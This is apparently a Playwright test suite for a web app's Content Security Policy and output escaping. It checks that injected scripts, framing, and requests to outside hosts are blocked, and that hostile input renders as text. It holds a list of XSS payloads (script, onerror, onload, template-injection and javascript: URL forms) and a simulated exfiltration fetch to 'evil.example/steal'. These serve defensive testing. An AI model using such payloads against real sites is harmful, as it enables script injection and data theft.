import type { Page } from '@playwright/test'
import { expect, PASSWORD, test } from '../fixtures.ts'
import { declareExpectedErrors, enter, navigateInApp, writeStorage } from '../session-helpers.ts'
import { recordCspViolations } from '../support/server/csp-violations.ts'

const ATTACKS = [
  '<script>window.attacked = 1</script>',
  '<img src=x onerror="window.attacked = 1">',
  '"><svg onload="window.attacked = 1">',
  '{{constructor.constructor("window.attacked = 1")()}}',
  "javascript:window.attacked=1//'",
]
const attacked = (page: Page) => page.evaluate(() => Reflect.get(window, 'attacked'))

test('blocks inline scripts, eval, foreign code and framing by CSP', async ({ page, watched }) => {
  const stopped = await recordCspViolations(page)
  await page.goto('/login')
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.attacked = 1'
    const image = document.createElement('img')
    image.setAttribute('onerror', 'window.attacked = 1')
    image.src = '/api/no-image'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    const frame = document.createElement('iframe')
    frame.src = '/login'
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.body.append(script, image, foreign, frame, base)
    fetch('https://evil.example/steal').catch(() => undefined)
    new Image().src = 'https://evil.example/pixel'
  })
  await expect
    .poll(() => [...new Set(stopped.map((item) => item.split(' ')[0]))].sort())
    .toEqual(['base-uri', 'connect-src', 'img-src', 'script-src-attr', 'script-src-elem'])
  expect(await attacked(page)).toBeUndefined()
  await declareExpectedErrors(watched, /Content Security Policy/)
})

test('refuses framing by other sites', { tag: '@full' }, async ({ page, baseURL }) => {
  await page.route('http://outside.test/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>outside</title><iframe src="${baseURL}/login"></iframe>`,
    }),
  )
  await page.goto('http://outside.test/')
  const inside = () => page.frames().find((frame) => frame !== page.mainFrame())
  await expect.poll(() => inside()?.url()).toBe('chrome-error://chromewebdata/')
})

/** Loads the first address and navigates to the others in the app, because attacks can arrive either way. */
const arriving = (page: Page) => {
  let arrive: (path: string) => Promise<unknown> = (path) => {
    arrive = (next) => navigateInApp(page, next)
    return page.goto(path)
  }
  return (path: string) => arrive(path)
}
const inAddress = ATTACKS.map((attack) => [attack, encodeURIComponent(attack)] as const)

test('renders URL attacks as text when signed out', { tag: '@full' }, async ({ page }) => {
  const stopped = await recordCspViolations(page)
  const arrive = arriving(page)
  for (const [attack, q] of inAddress)
    await test.step(attack, async () => {
      await arrive(`/login?redirect=${q}&q=${q}#${q}`)
      await expect(page).toHaveURL((url) => url.searchParams.get('q') === attack)
      await expect(page.getByLabel('用户名')).toBeVisible()
      expect(await attacked(page)).toBeUndefined()
    })
  expect(stopped).toEqual([])
})

test('renders URL attacks as text when signed in', { tag: '@full' }, async ({ page }) => {
  const stopped = await recordCspViolations(page)
  await enter(page, 'laoban')
  for (const path of ['/home', '/price']) {
    const arrive = arriving(page)
    for (const [attack, q] of inAddress)
      await test.step(`${path} ${attack}`, async () => {
        await arrive(`${path}?q=${q}`)
        await expect(page.getByRole('searchbox').first()).toHaveValue(attack)
        expect(await attacked(page)).toBeUndefined()
      })
  }
  const arrive = arriving(page)
  for (const [attack, q] of inAddress)
    await test.step(attack, async () => {
      await arrive(`/others/kehu-visit/${q}`)
      await expect(page).toHaveURL((url) => decodeURIComponent(url.pathname).endsWith(attack))
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      await arrive(`/login?redirect=${q}`)
      await expect(page).toHaveURL(/\/home$/)
      expect(await attacked(page)).toBeUndefined()
    })
  expect(stopped).toEqual([])
})

test('renders attacks in names, messages and storage as text', { tag: '@full' }, async ({ page }) => {
  const stopped = await recordCspViolations(page)
  await page.goto('/login')
  for (const attack of ATTACKS)
    await test.step(`error message ${attack}`, async () => {
      await page.unroute('**/api/auth/login')
      await page.route('**/api/auth/login', (route) =>
        route.fulfill({ status: 403, json: { code: 20003, msg: attack, data: null } }),
      )
      await page.getByLabel('用户名').fill(attack)
      await page.getByLabel('密码', { exact: true }).fill(PASSWORD)
      await page.getByRole('button', { name: '登录', exact: true }).click()
      await expect(page.getByText(attack, { exact: true })).toBeVisible()
      expect(await attacked(page)).toBeUndefined()
    })
  await page.unroute('**/api/auth/login')
  for (const attack of ATTACKS)
    await test.step(`user name ${attack}`, async () => {
      await page.unroute('**/api/vuevantqita/get-user-profile')
      await page.route('**/api/vuevantqita/get-user-profile', async (route) => {
        const reply = await route.fetch()
        const body = await reply.json()
        await route.fulfill({ json: { ...body, data: { ...body.data, yonghuming: attack } } })
      })
      await enter(page, 'laoban', { zhiwei: attack })
      await writeStorage(page, {
        shujuku: attack,
        selectedTheme: attack,
        colorScheme: attack,
        lastUserName: attack,
      })
      await page.goto('/my-profile')
      const account = page.getByRole('region', { name: '账号' })
      await expect(account.getByRole('heading')).toHaveText(attack)
      await expect(account.getByText(attack, { exact: true })).toHaveCount(3)
      expect(await attacked(page)).toBeUndefined()
    })
  expect(stopped).toEqual([])
})
